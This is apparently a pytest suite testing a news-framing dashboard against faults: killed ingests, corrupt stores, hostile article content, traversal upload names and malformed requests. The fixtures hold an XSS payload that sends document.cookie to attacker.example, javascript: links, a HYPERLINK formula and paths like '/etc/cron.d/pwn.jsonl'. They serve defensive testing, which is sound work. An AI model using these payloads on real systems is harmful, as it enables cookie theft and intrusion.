"""Faults: a killed ingest, foreign or corrupt store files, hostile article content and uploads."""
from __future__ import annotations

import base64
import gzip
import json
import random
import re
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from analysis.errors import FramingError
from analysis.models import Article, content_hash

REPO = Path(__file__).resolve().parents[1]
CORPUS = REPO.parent / "shared" / "corpus"
ALLSIDES = CORPUS / "allsides.jsonl.gz"
TURKEY_NATO = CORPUS / "turkey-nato.jsonl"


def _cli(*args: str, timeout: float = 600) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "analysis", *args], cwd=REPO, capture_output=True, text=True, timeout=timeout
    )


def _one_clear_line(stderr: str) -> str:
    assert "Traceback" not in stderr, stderr
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert len(lines) == 1, stderr
    return lines[0]


def _count(db: Path) -> int:
    """Articles visible to a reader right now (a read-only connection, like a dashboard worker)."""
    try:
        with sqlite3.connect(f"file:{db}?mode=ro", uri=True, timeout=5) as conn:
            return conn.execute("SELECT COUNT(*) FROM articles").fetchone()[0]
    except sqlite3.Error:
        return 0  # the store is still being created


# ---------------------------------------------------------------- SIGKILL in the middle of an ingest


def _big_input(folder: Path, n_files: int, per_file: int) -> list[str]:
    """Real articles from the AllSides corpus under fresh ids, split over several files; the ids."""
    ids = []
    with gzip.open(ALLSIDES, "rt", encoding="utf-8") as src:
        for f in range(n_files):
            with (folder / f"part-{f:02d}.jsonl").open("w", encoding="utf-8") as out:
                written = 0
                while written < per_file:
                    row = json.loads(src.readline())
                    if len((row.get("text") or "").strip()) < 200 or not (row.get("title") or "").strip():
                        continue  # keep only rows any reader accepts, so the expected total is exact
                    row["id"] = f"fault-{f:02d}-{written:04d}"
                    out.write(json.dumps(row) + "\n")
                    ids.append(row["id"])
                    written += 1
    return ids


@pytest.mark.skipif(not ALLSIDES.exists(), reason="needs ../shared/corpus/allsides.jsonl.gz")
def test_sigkill_mid_ingest_leaves_whole_articles_and_rerun_completes(tmp_path):
    src = tmp_path / "input"
    src.mkdir()
    ids = _big_input(src, n_files=40, per_file=500)
    total = len(ids)
    db = tmp_path / "store.db"

    proc = subprocess.Popen(
        [sys.executable, "-m", "analysis", "ingest", str(src), "--db", str(db)],
        cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )
    seen = 0
    deadline = time.monotonic() + 300
    try:
        while time.monotonic() < deadline and proc.poll() is None:
            seen = _count(db) if db.exists() else 0
            if 0 < seen < total:
                break
            time.sleep(0.02)
    finally:
        proc.kill()  # SIGKILL: no clean-up, no rollback by the process itself
        proc.wait()
    assert proc.returncode == -9, f"ingest ended on its own before it could be killed: {proc.stderr.read()}"
    assert 0 < seen < total

    from analysis.store import Store

    with Store(db) as store:  # opens (SQLite rolls back the unfinished transaction)
        assert store.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        stored = list(store.articles())
        assert 0 < len(stored) < total
        for art in stored:
            assert art.content_hash == content_hash(art.title, art.text), f"half-written article {art.id}"
            assert art.id in set(ids) and art.title and art.text

    rerun = _cli("ingest", str(src), "--db", str(db))
    assert rerun.returncode == 0, rerun.stderr
    assert "Traceback" not in rerun.stderr
    with Store(db) as store:
        assert store.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        final = list(store.articles())
        assert store.count() == total
    final_ids = [a.id for a in final]
    assert len(final_ids) == len(set(final_ids)) == total
    assert set(final_ids) == set(ids)
    # what survived the kill is still there, unchanged
    before = {a.id: a.content_hash for a in stored}
    after = {a.id: a.content_hash for a in final}
    assert all(after[i] == h for i, h in before.items())


# ---------------------------------------------------------------- corrupt and foreign store files


def _snapshot(path: Path) -> tuple[bytes, list[str]]:
    siblings = sorted(p.name for p in path.parent.iterdir())
    return path.read_bytes(), siblings


def _refused(db: Path, tmp_path: Path) -> str:
    sample = tmp_path / "one.jsonl"
    sample.write_text(json.dumps({"id": "x1", "outlet": "Test Wire", "title": "Ankara weighs the offer",
                                  "text": "Officials in Ankara said the talks would go on next week."}) + "\n")
    before = _snapshot(db)
    for cmd in (("ingest", str(sample), "--db", str(db)), ("score", str(sample), "--db", str(db), "--format", "jsonl")):
        run = _cli(*cmd, timeout=120)
        assert run.returncode != 0
        line = _one_clear_line(run.stderr)
        assert str(db) in line or db.name in line, line
        assert _snapshot(db) == before  # byte-identical, and no -wal/-shm/journal created beside it
    with pytest.raises(FramingError):
        from analysis.store import Store

        Store(db)
    assert _snapshot(db) == before
    return line


def test_random_bytes_as_db_is_refused_untouched(tmp_path):
    db = tmp_path / "junk.db"
    db.write_bytes(random.Random(5).randbytes(64 * 1024))
    line = _refused(db, tmp_path)
    assert "not" in line and "store" in line


def test_foreign_sqlite_as_db_is_refused_untouched(tmp_path):
    db = tmp_path / "places.sqlite"
    with sqlite3.connect(db) as conn:
        conn.execute("CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT, title TEXT)")
        conn.executemany("INSERT INTO moz_places (url, title) VALUES (?, ?)",
                         [(f"https://example.org/{i}", f"page {i}") for i in range(200)])
    conn.close()
    line = _refused(db, tmp_path)
    assert "another application" in line or "not" in line


def test_foreign_sqlite_with_look_alike_tables_is_refused(tmp_path):
    # Same table names as ours but not made by us: still not ours to write into.
    db = tmp_path / "lookalike.db"
    with sqlite3.connect(db) as conn:
        conn.execute("CREATE TABLE articles (id TEXT PRIMARY KEY, body BLOB)")
        conn.execute("CREATE TABLE scores (k TEXT)")
        conn.execute("INSERT INTO articles VALUES ('a', x'00ff')")
    conn.close()
    _refused(db, tmp_path)


def test_truncated_store_is_refused_not_rebuilt(tmp_path):
    from analysis.store import Store

    db = tmp_path / "store.db"
    with Store(db) as store:
        store.add_articles(
            [Article(id=f"t{i}", outlet="Test Wire", title=f"Report {i}", text=f"Talks continued on day {i}. " * 200)
             for i in range(300)]
        )
    size = db.stat().st_size
    with db.open("r+b") as fh:
        fh.truncate(size // 3)
    before = db.read_bytes()
    sample = tmp_path / "more.jsonl"
    sample.write_text("".join(json.dumps({"id": f"m{i}", "outlet": "Test Wire", "title": f"More {i}",
                                          "text": f"Talks resumed on day {i}, officials said."}) + "\n" for i in range(50)))
    run = _cli("ingest", str(sample), "--db", str(db), timeout=120)
    assert run.returncode != 0
    assert str(db) in _one_clear_line(run.stderr)
    # SQLite may add its -wal/-shm files beside a store of ours; the damaged file itself is untouched.
    assert db.read_bytes() == before


# ---------------------------------------------------------------- hostile content in the page

SCRIPT = "<script>alert('title')</script>"
HOSTILE = [
    {
        "id": "hostile-1",
        "outlet": "<b>Bold Wire</b>",
        "date": "2019-07-12",
        "title": f"{SCRIPT} Ankara takes delivery of the S-400",
        "text": (
            "Turkish officials said the S-400 deliveries began on Friday. "
            "<script>document.location='https://attacker.example/'+document.cookie</script> "
            "<img src=x onerror=alert('img')> Washington warned of sanctions under CAATSA. "
            "NATO allies said the system cannot be integrated with their air defences."
        ),
    },
    {
        "id": "hostile-2",
        "outlet": "Markdown Daily",
        "date": "2019-07-17",
        "title": "**F-35** exit [click here](javascript:alert('md')) for details",
        "text": (
            "# Breaking\n\nThe United States removed Turkey from the F-35 programme, officials said. "
            "[Read more](javascript:alert('link')) and <a href=\"javascript:alert('a')\">this</a>. "
            "Ankara said the decision was unfair and that its purchase was a sovereign choice."
        ),
    },
    {
        "id": "hostile-3",
        "outlet": "Formula Post",
        "date": "2020-12-14",
        "title": "=HYPERLINK(\"https://attacker.example\",\"open\") sanctions announced",
        "text": "The US imposed sanctions on Turkey's defence procurement agency over the S-400 purchase, officials said.",
    },
]


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    src = tmp / "hostile.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in HOSTILE), encoding="utf-8")
    db = tmp / "store.db"
    run = _cli("score", str(src), "--db", str(db), "--format", "jsonl")
    assert run.returncode == 0, run.stderr
    from dashboard.app import create_app

    app = create_app(db, upload_dir=tmp / "uploads")
    return app, db, tmp


def _stored(db: Path) -> dict[str, Article]:
    from analysis.store import Store

    with Store(db) as store:
        return {a.id: a for a in store.articles()}


def test_hostile_content_is_stored_verbatim_so_the_page_tests_mean_something(hostile_app):
    _, db, _ = hostile_app
    stored = _stored(db)
    assert "<script>" in stored["hostile-1"].title
    assert "javascript:" in stored["hostile-2"].title


def _exports(client, chart: str, fmt: str, query: str = "") -> str:
    resp = client.get(f"/export/{chart}.{fmt}{query}")
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    return resp.get_data(as_text=True)


def test_exported_html_has_no_live_script_from_articles(hostile_app):
    app, db, _ = hostile_app
    client = app.server.test_client()
    from dashboard import ids

    for chart in ids.CHART_IDS:
        body = _exports(client, chart, "html")
        # Every <script> element in the page is plotly's own; none comes from an article.
        for m in re.finditer(r"<script\b[^>]*>(.*?)</script>", body, flags=re.S | re.I):
            inner = m.group(1)
            assert "alert(" not in inner or "\\u003cscript" in inner or "&lt;script" in inner or "<\\/script>" in inner
        assert SCRIPT not in body
        assert "<img src=x onerror" not in body
        assert "document.cookie</script>" not in body
    # the hostile title is in the per-article chart, as escaped data
    body = _exports(client, "framing-by-outlet", "html")
    assert "alert(" in body
    assert re.search(r"\\u003cscript|&lt;script|<\\/script>", body)


def test_exported_csv_shows_content_as_text_and_defuses_formulas(hostile_app):
    import csv
    import io

    app, _, _ = hostile_app
    client = app.server.test_client()
    body = _exports(client, "framing-by-outlet", "csv")
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert not any(c.startswith("=") for c in cells), [c for c in cells if c.startswith("=")]
    titles = [c for c in cells if "sanctions announced" in c]
    if titles:  # the chart's rows carry titles: the formula title is there, neutralised
        assert all(not t.startswith(("=", "+", "@")) for t in titles)


def _dash_post(client, output: str, inputs, changed: str, state=()):
    """POST a callback as the page does; the outputs are read from `output` ("..a.b...c.d..")."""
    outputs = [dict(zip(("id", "property"), o.rsplit(".", 1))) for o in output.strip(".").split("...")]
    payload = {"output": output, "outputs": outputs if output.startswith("..") else outputs[0],
               "inputs": inputs, "changedPropIds": [changed], "state": list(state)}
    return client.post("/_dash-update-component", json=payload)


def _post_callback(client, output: str, inputs, changed: str, state=()):
    resp = _dash_post(client, output, inputs, changed, state)
    assert resp.status_code in (200, 204), resp.get_data(as_text=True)[:500]
    return resp.get_json() if resp.status_code == 200 else {}


def _walk(node, found: list):
    if isinstance(node, dict):
        if "type" in node and "props" in node:
            found.append(node)
        for v in node.values():
            _walk(v, found)
    elif isinstance(node, list):
        for v in node:
            _walk(v, found)
    return found


def test_article_detail_renders_hostile_text_as_plain_text(hostile_app):
    from dashboard import ids

    app, db, _ = hostile_app
    client = app.server.test_client()
    assert client.get("/").status_code == 200
    layout_json = client.get("/_dash-layout").get_data(as_text=True)
    assert '"dangerously_allow_html": true' not in layout_json.replace('":true', '": true')

    for article_id in ("hostile-1", "hostile-2"):
        result = _post_callback(
            client,
            output=f"..{ids.DETAIL}.children...{ids.SELECTED_ARTICLE}.data..",
            inputs=[
                {"id": ids.TABLE, "property": "cellClicked", "value": {"rowId": article_id, "colId": "title"}},
                {"id": "framing-by-outlet", "property": "clickData", "value": None},
            ],
            changed=f"{ids.TABLE}.cellClicked",
        )
        detail = result["response"][ids.DETAIL]["children"]
        nodes = _walk(detail, [])
        assert nodes, "the detail panel rendered nothing"
        types = {n["type"] for n in nodes}
        assert not types & {"Markdown", "Iframe", "Script"}, types
        assert not any(n["props"].get("dangerously_allow_html") for n in nodes)
        text = json.dumps(detail)
        title = _stored(db)[article_id].title
        # the title is a plain string child (React escapes it), not parsed markup
        assert json.dumps(title)[1:-1] in text
        assert not any(n["type"] in ("A", "Link") and "javascript:" in str(n["props"].get("href", "")) for n in nodes)


def test_view_callback_survives_hostile_outlet_filter(hostile_app):
    from dashboard import ids

    app, _, _ = hostile_app
    client = app.server.test_client()
    outputs = [{"id": c, "property": "figure"} for c in ids.CHART_IDS] + [
        {"id": ids.SUMMARY, "property": "children"},
        {"id": ids.EMPTY_STATE, "property": "hidden"},
        {"id": ids.CHARTS_SECTION, "property": "hidden"},
    ]
    output = "..." .join(f"{o['id']}.{o['property']}" for o in outputs)
    from urllib.parse import urlencode

    search = "?" + urlencode({"outlet": "<b>Bold Wire</b>", "q": "<script>"})
    result = _post_callback(
        client,
        output=f"..{output}..",
        inputs=[{"id": ids.URL, "property": "search", "value": search},
                {"id": ids.DATA_VERSION, "property": "data", "value": "x"}],
        changed=f"{ids.URL}.search",
    )
    summary = result["response"][ids.SUMMARY]["children"]
    assert isinstance(summary, str)  # text, not markup


# ---------------------------------------------------------------- uploads


def _data_url(data: bytes) -> str:
    return "data:application/octet-stream;base64," + base64.b64encode(data).decode("ascii")


def _upload_row(i: int) -> bytes:
    return (json.dumps({"id": f"up-{i}", "outlet": "Upload Wire", "title": f"Upload test {i}",
                        "text": f"Officials in Ankara and Washington met again on day {i}, a spokesman said."}) + "\n").encode()


def test_upload_names_cannot_escape_the_upload_area(tmp_path, monkeypatch):
    from dashboard.service import Config
    from dashboard.uploads import safe_filename
    from uploading import upload

    app_dir = tmp_path / "app"
    app_dir.mkdir()
    uploads = app_dir / "uploads"
    outside = tmp_path / "abs"
    outside.mkdir()
    cfg = Config(db_path=str(app_dir / "store.db"), upload_dir=str(uploads))
    names = [
        "../../escaped.jsonl",
        "../sibling.jsonl",
        str(outside / "absolute.jsonl"),
        "..\\..\\windows.jsonl",
        "uploads/../../../nested.jsonl",
        "....//....//dots.jsonl",
        "/etc/cron.d/pwn.jsonl",
    ]
    writes: list[Path] = []
    real_write = Path.write_bytes

    def spy(self, data):
        writes.append(Path(self).resolve())
        return real_write(self, data)

    monkeypatch.setattr(Path, "write_bytes", spy)
    before = sorted(p for p in tmp_path.rglob("*"))
    messages, job = upload(cfg, [_data_url(_upload_row(i)) for i in range(len(names))], names)
    assert job.status == "done"
    assert len(messages) == len(names) and all(ok for _, _, ok in messages), messages
    ours = [w for w in writes if tmp_path.resolve() in w.parents or w.name.endswith(".jsonl")]
    assert ours and all(uploads.resolve() in w.parents for w in ours), ours
    for name in names:
        shown = safe_filename(name)
        assert "/" not in shown and "\\" not in shown and not shown.startswith(".")
    for escaped in ("escaped.jsonl", "sibling.jsonl", "windows.jsonl", "nested.jsonl", "dots.jsonl"):
        assert not list(tmp_path.rglob(escaped)), escaped
    assert not (outside / "absolute.jsonl").exists()
    assert not Path("/etc/cron.d/pwn.jsonl").exists()
    after = sorted(p for p in tmp_path.rglob("*") if uploads not in p.parents and p != uploads)
    new = [p for p in after if p not in before]
    frames = app_dir / ".store.db.frames"  # the store's frame cache, which the worker builds
    assert all((p.parent == app_dir and p.name.startswith("store.db")) or p == frames or frames in p.parents
               for p in new), new
    assert {a.id for a in _stored(app_dir / "store.db").values()} == {f"up-{i}" for i in range(len(names))}


def test_oversized_uploads_are_refused_with_a_message(tmp_path):
    from dashboard import layout
    from dashboard.app import create_app
    from dashboard.service import Config
    from uploading import upload

    cfg = Config(db_path=str(tmp_path / "store.db"), upload_dir=str(tmp_path / "uploads"))
    big = _upload_row(0) * (layout.MAX_UPLOAD_FILE // len(_upload_row(0)) + 1)
    assert len(big) > layout.MAX_UPLOAD_FILE
    messages, job = upload(cfg, [_data_url(big), _data_url(_upload_row(1))], ["big.jsonl", "small.jsonl"])
    by_name = {n: (text, ok) for n, text, ok in messages}
    assert not by_name["big.jsonl"][1] and "limit" in by_name["big.jsonl"][0] and "MB" in by_name["big.jsonl"][0]
    assert by_name["small.jsonl"][1] and job.status == "done"  # the good file still lands
    assert {a.id for a in _stored(tmp_path / "store.db").values()} == {"up-1"}

    # Several files each under the limit but together over the total: all refused, nothing stored.
    cfg2 = Config(db_path=str(tmp_path / "store2.db"), upload_dir=str(tmp_path / "uploads2"))
    chunk = _upload_row(2) * ((layout.MAX_UPLOAD_FILE - 1024) // len(_upload_row(2)))
    n = layout.MAX_UPLOAD_TOTAL // len(chunk) + 1
    messages, job = upload(cfg2, [_data_url(chunk)] * n, [f"f{i}.jsonl" for i in range(n)])
    assert job is None and all(not ok and "limit" in text for _, text, ok in messages)
    assert not (tmp_path / "uploads2").exists() or not any((tmp_path / "uploads2").rglob("*.jsonl"))

    # A request bigger than the server accepts is cut off by the server with a message.
    app = create_app(tmp_path / "store3.db", upload_dir=tmp_path / "uploads3")
    limit = app.server.config["MAX_CONTENT_LENGTH"]
    resp = app.server.test_client().post(
        "/_dash-update-component", data=b"x" * (limit + 1), content_type="application/json"
    )
    assert resp.status_code == 413
    assert "upload refused" in resp.get_data(as_text=True)


# ---------------------------------------------------------------- crafted callback bodies


@pytest.mark.parametrize("case", ["view-search", "rows-start", "rows-filter", "rows-sort", "detail-cell", "upload"])
def test_crafted_callback_bodies_get_a_400_with_a_message(tmp_path, case):
    from dashboard import ids
    from dashboard.app import create_app

    client = create_app(tmp_path / "s.db", upload_dir=tmp_path / "uploads").server.test_client()
    view = ".." + "...".join(f"{c}.figure" for c in ids.CHART_IDS) + \
        f"...{ids.SUMMARY}.children...{ids.EMPTY_STATE}.hidden...{ids.CHARTS_SECTION}.hidden.."
    rows = f"{ids.TABLE}.getRowsResponse"
    url = [{"id": ids.URL, "property": "search", "value": ""}]

    def rows_request(request):
        return _dash_post(client, rows, [{"id": ids.TABLE, "property": "getRowsRequest", "value": request}],
                          f"{ids.TABLE}.getRowsRequest", url)

    if case == "view-search":
        resp = _dash_post(client, view, [{"id": ids.URL, "property": "search", "value": {"outlet": 1}},
                                         {"id": ids.DATA_VERSION, "property": "data", "value": "x"}], f"{ids.URL}.search")
    elif case == "rows-start":
        resp = rows_request({"startRow": "abc", "endRow": 10})
    elif case == "rows-filter":
        resp = rows_request({"startRow": 0, "endRow": 10, "filterModel": {"title": "not a spec"}})
    elif case == "rows-sort":
        resp = rows_request({"startRow": 0, "endRow": 10, "sortModel": "title"})
    elif case == "detail-cell":
        resp = _dash_post(client, f"..{ids.DETAIL}.children...{ids.SELECTED_ARTICLE}.data..",
                          [{"id": ids.TABLE, "property": "cellClicked", "value": ["a1"]},
                           {"id": "framing-by-outlet", "property": "clickData", "value": None}], f"{ids.TABLE}.cellClicked")
    else:
        resp = _dash_post(client, f"..{ids.UPLOAD_MESSAGES}.children...{ids.JOBS}.data...{ids.JOB_POLL}.disabled..",
                          [{"id": ids.UPLOAD_PAYLOAD, "property": "data", "value": {"contents": [1, 2], "filenames": []}}],
                          f"{ids.UPLOAD_PAYLOAD}.data", [{"id": ids.JOBS, "property": "data", "value": []},
                                                         {"id": ids.UPLOAD_OUTLET, "property": "value", "value": None},
                                                         {"id": ids.UPLOAD_DATE, "property": "value", "value": None}])
    body = resp.get_data(as_text=True)
    assert resp.status_code == 400, (resp.status_code, body[:300])
    assert body.startswith("bad request: ") and len(body.strip().splitlines()) == 1 and "<" not in body
